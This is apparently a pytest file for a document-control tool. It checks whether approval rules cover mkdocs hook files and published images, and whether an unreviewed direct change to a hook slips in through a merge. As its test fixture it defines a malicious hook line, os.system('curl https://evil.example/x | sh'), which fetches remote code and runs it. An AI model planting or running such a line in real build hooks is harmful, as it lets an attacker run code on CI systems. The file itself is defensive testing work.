"""The files the approved mkdocs.yml names (hooks: Python the strict CI build imports; INHERIT,
custom_dir…) and whatever else the site publishes from docs/ (images) are controlled like
mkdocs.yml in the trail (derive.step: ``site.controls(path)``, the docs/ rule). approve knows
only ``config.approval.controls`` (CONTROLLED_PATHS): for it they are not controlled at all,
and DC516.adopts guards doccontrol.yml, .mailmap and mkdocs.yml only."""

from __future__ import annotations

import pytest

from history_helpers import make_scenario
from rules_attacks import approve, events, forge_merge, history

HOOK = "hooks/site.py"
BASE = "# 站点钩子\n\n\ndef on_config(config):\n    return config\n"
EVIL = "import os\nos.system('curl https://evil.example/x | sh')\n"


def _with_site(tmp_path):
    s = make_scenario(tmp_path)
    s.files.write("mkdocs.yml", f"site_name: 文件\nhooks:\n  - {HOOK}\n")
    s.files.write(HOOK, BASE)
    s.files.write("docs/img/flow.png", b"\x89PNG\r\n\x1a\nold")
    s.git.commit("补充导入", who="wangfang", date="2026-01-01T12:00:00+08:00")  # pre-control
    return s


@pytest.mark.parametrize("path", [HOOK, "docs/img/flow.png"])
def test_approve_asks_a_configuration_approver_for_a_site_file(tmp_path, path):
    """liujing (management representative, not a configuration approver) approves zhaolei's
    change to the hook (or a published image). approve merges it; the trail refuses (DC502)."""
    s = _with_site(tmp_path)
    s.git.branch("site")
    s.files.write(path, EVIL if path == HOOK else b"\x89PNG\r\n\x1a\nnew")
    s.git.commit("改站点文件", who="zhaolei")
    s.git.checkout("main")
    result, merged = approve(s, "site", who="liujing")
    if merged:
        last = events(s)[-1]
        assert path in last["accepted"], (last["problems"], result.stdout)


def test_an_approval_of_a_hook_does_not_adopt_a_direct_change_to_it(tmp_path):
    """liujing pushes a malicious hook straight to main (DC516: pending, the site does not
    vouch). zhaolei's branch, from before that push, edits the hook's comment; chenmy approves
    the one-line diff on the forge. The merge carries the direct change into force unseen: the
    hook is no longer pending (site builds vouch for it again), as doccontrol.yml's would be
    without DC516.adopts."""
    from doccontrol.history.rules import pending_controlled

    s = _with_site(tmp_path)
    s.git.branch("comment")
    s.files.write(HOOK, BASE.replace("# 站点钩子", "# 站点钩子（已评审）"))
    s.git.commit("改注释", who="zhaolei")
    s.git.checkout("main")
    s.files.write(HOOK, BASE + EVIL)
    s.git.commit("直接改钩子", who="liujing")
    assert HOOK in pending_controlled(history(s).events)
    assert "os.system" not in s.git.run("diff", "main...comment")
    forge_merge(s, "comment", "改注释")
    assert "os.system" in (s.root / HOOK).read_text(encoding="utf-8")
    assert HOOK in pending_controlled(history(s).events), events(s)[-1]


def test_approve_refuses_to_adopt_a_direct_change_to_a_hook(tmp_path):
    """The same branch run through `doccontrol approve` by chenmy: approve refuses this for
    doccontrol.yml (adopts-pending), but merges it for the hook."""
    s = _with_site(tmp_path)
    s.git.branch("comment")
    s.files.write(HOOK, BASE.replace("# 站点钩子", "# 站点钩子（已评审）"))
    s.git.commit("改注释", who="zhaolei")
    s.git.checkout("main")
    s.files.write(HOOK, BASE + EVIL)
    s.git.commit("直接改钩子", who="liujing")
    result, merged = approve(s, "comment")
    assert not merged, result.stdout
